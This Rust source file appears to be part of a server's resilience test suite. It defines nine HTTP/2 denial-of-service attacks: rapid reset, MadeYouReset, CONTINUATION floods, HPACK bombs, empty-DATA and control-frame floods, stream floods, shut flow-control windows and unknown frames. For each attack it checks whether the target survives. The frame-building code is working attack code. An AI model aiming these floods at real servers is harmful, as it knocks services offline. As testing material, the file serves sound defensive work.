//! HTTP/2, with prior knowledge.

use crate::attack::{Attack, Outcome, Target, all};
use crate::wire::frame::{BINARY, FIN, masked};
use crate::wire::http2::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, integer, request,
};
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "h2-rapid-reset",
        what: "20,000 requests that are reset at once",
        stays: "h2 counts resets by itself",
        run: |target| Box::pin(rapid_reset(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-made-you-reset",
        what: "20,000 requests whose next frame makes the server reset them",
        stays: "h2 counts resets by itself",
        run: |target| Box::pin(made_you_reset(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-continuation",
        what: "CONTINUATION without end, with octets and without",
        without: &["--limit", "head_len_max=1000000000"],
        run: |target| Box::pin(continuation(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-empty-data",
        what: "200,000 empty DATA frames on a stream that nobody reads",
        stays: "h2 counts empty frames by itself",
        run: |target| Box::pin(empty_data(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-hpack-bomb",
        what: "a table entry of 4,000 octets that is repeated 10,000 times; integers without end",
        stays: "fields that repeat an entry share its octets, whatever the list may have",
        run: |target| Box::pin(hpack_bomb(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-control-noread",
        what: "100,000 SETTINGS and PINGs whose answers are not read",
        stays: "h2 answers the next when the last was taken",
        run: |target| Box::pin(control_noread(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-streams",
        what: "5,000 requests at once on one connection",
        stays: "even 5,000 at once cost 2 MiB: the limit is for what their handlers do",
        run: |target| Box::pin(streams(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-shut-windows",
        what: "100 WebSockets whose windows are shut, or of one octet, and that ask for an echo",
        with: &["--limit", "write_timeout_ms=1000"],
        without: &["--limit", "write_timeout_ms=600000"],
        run: |target| Box::pin(shut_windows(target)),
        ..Attack::DEFAULT
    },
    Attack {
        name: "h2-unknown-frames",
        what: "frame types 0x0a to 0xff, and settings out of range",
        stays: "a rule of the protocol's, kept by the parser",
        run: |target| Box::pin(unknown(target)),
        ..Attack::DEFAULT
    },
];

const SOON: Duration = Duration::from_secs(6);
const OPEN: u8 = END_HEADERS;
const WHOLE: u8 = END_HEADERS | END_STREAM;

/// Odd stream numbers.
fn numbers(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

async fn rapid_reset(target: Target) -> Outcome {
    all(4, move |_| async move {
        let mut connection = Connection::open(target).await?;
        let head = request(target, "GET", "/stats");
        let mut flood = Vec::new();
        for number in numbers(5000) {
            flood.extend(frame(HEADERS, WHOLE, number, &head));
            flood.extend(frame(RST_STREAM, 0, number, &[0, 0, 0, 8]));
        }
        // Either it is ended for it, or it cost no more than so many requests.
        connection.send(&flood).await;
        Ok(())
    })
    .await
}

async fn made_you_reset(target: Target) -> Outcome {
    all(4, move |kind| async move {
        let mut connection = Connection::open(target).await?;
        let head = request(target, "POST", "/stats");
        let mut flood = Vec::new();
        for number in numbers(5000) {
            flood.extend(frame(HEADERS, if kind == 0 { WHOLE } else { OPEN }, number, &head));
            flood.extend(match kind {
                0 => frame(DATA, 0, number, b"after the end"),
                1 => frame(WINDOW_UPDATE, 0, number, &[0; 4]),
                2 => frame(WINDOW_UPDATE, 0, number, &[0x7f, 0xff, 0xff, 0xff]),
                // A stream that depends on itself.
                _ => frame(2, 0, number, &[number.to_be_bytes().as_slice(), &[1]].concat()),
            });
        }
        connection.send(&flood).await;
        Ok(())
    })
    .await
}

async fn continuation(target: Target) -> Outcome {
    all(4, move |kind| async move {
        let mut connection = Connection::open(target).await?;
        let piece =
            if kind % 2 == 0 { block(&[("x-more", &"x".repeat(1000))]) } else { Vec::new() };
        let mut flood = frame(HEADERS, 0, 1, &request(target, "GET", "/stats"));
        flood.extend(frame(CONTINUATION, 0, 1, &piece).repeat(20_000));
        if !connection.send(&flood).await || connection.is_ended(SOON).await {
            return Ok(());
        }
        Err(format!("20,000 CONTINUATIONs of {} octets were taken", piece.len()))
    })
    .await
}

async fn empty_data(target: Target) -> Outcome {
    all(2, move |_| async move {
        let mut connection = Connection::open(target).await?;
        let mut flood = frame(HEADERS, OPEN, 1, &request(target, "POST", "/stats"));
        flood.extend(frame(DATA, 0, 1, &[]).repeat(100_000));
        connection.send(&flood).await;
        Ok(())
    })
    .await
}

async fn hpack_bomb(target: Target) -> Outcome {
    // A literal that enters the dynamic table, then its index again and again.
    let value = "x".repeat(4000);
    let mut bomb = request(target, "GET", "/stats");
    bomb.push(0x40);
    integer(&mut bomb, 0, 7, 5);
    bomb.extend_from_slice(b"x-big");
    integer(&mut bomb, 0, 7, value.len());
    bomb.extend_from_slice(value.as_bytes());
    bomb.extend(std::iter::repeat_n(0x80 | 62, 10_000));
    all(20, move |kind| {
        let bomb = bomb.clone();
        async move {
            let mut connection = Connection::open(target).await?;
            if kind % 2 == 1 {
                let endless = [&[0xff][..], &[0xff; 5000]].concat();
                let head = frame(HEADERS, WHOLE, 1, &endless);
                return match !connection.send(&head).await || connection.is_ended(SOON).await {
                    true => Ok(()),
                    false => Err("an integer without end was taken".to_owned()),
                };
            }
            connection.send(&frame(HEADERS, WHOLE, 1, &bomb)).await;
            Ok(())
        }
    })
    .await
}

async fn control_noread(target: Target) -> Outcome {
    all(4, move |kind| async move {
        let mut connection = Connection::open(target).await?;
        let one = match kind % 2 {
            0 => frame(PING, 0, 0, &[0; 8]),
            _ => frame(SETTINGS, 0, 0, &[]),
        };
        let flood = one.repeat(100_000);
        let write = connection.stream.write_all(&flood);
        tokio::time::timeout(Duration::from_secs(2), write).await.ok();
        Ok(())
    })
    .await
}

async fn streams(target: Target) -> Outcome {
    let mut connection = Connection::open(target).await?;
    let head = request(target, "POST", "/stats");
    let flood: Vec<u8> = numbers(5000).flat_map(|n| frame(HEADERS, OPEN, n, &head)).collect();
    connection.send(&flood).await;
    Ok(())
}

async fn shut_windows(target: Target) -> Outcome {
    all(10, move |number| async move {
        let mut connection = Connection::open(target).await?;
        let authority = target.address.to_string();
        let head = block(&[
            (":method", "CONNECT"),
            (":protocol", "websocket"),
            (":scheme", "http"),
            (":path", "/small"),
            (":authority", &authority),
            ("sec-websocket-version", "13"),
        ]);
        let mut octets = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, number as u8 % 2]);
        let message = masked(FIN | BINARY, &[7; 60_000]);
        for number in numbers(10) {
            octets.extend(frame(HEADERS, OPEN, number, &head));
            octets.extend(message.chunks(16_000).flat_map(|piece| frame(DATA, 0, number, piece)));
        }
        connection.stream.write_all(&octets).await.map_err(|error| error.to_string())?;
        match connection.resets(10, SOON).await {
            10 => Ok(()),
            reset => Err(format!("{reset} of 10 streams were reset")),
        }
    })
    .await
}

async fn unknown(target: Target) -> Outcome {
    let mut connection = Connection::open(target).await?;
    let flood: Vec<u8> = (0x0a..=0xff).flat_map(|kind| frame(kind, 0xff, 1, &[7; 100])).collect();
    if !connection.send(&flood).await {
        return Err("unknown frames ended the connection (RFC 9113, 4.1)".to_owned());
    }
    let bad: [&[u8]; 3] =
        [&[0, 5, 0, 0, 0, 1], &[0, 4, 0xff, 0xff, 0xff, 0xff], &[0, 2, 0, 0, 0, 9]];
    for setting in bad {
        let mut connection = Connection::open(target).await?;
        let sent = connection.send(&frame(SETTINGS, 0, 0, setting)).await;
        if sent && !connection.is_ended(SOON).await {
            return Err(format!("the setting {setting:?} was taken"));
        }
    }
    Ok(())
}
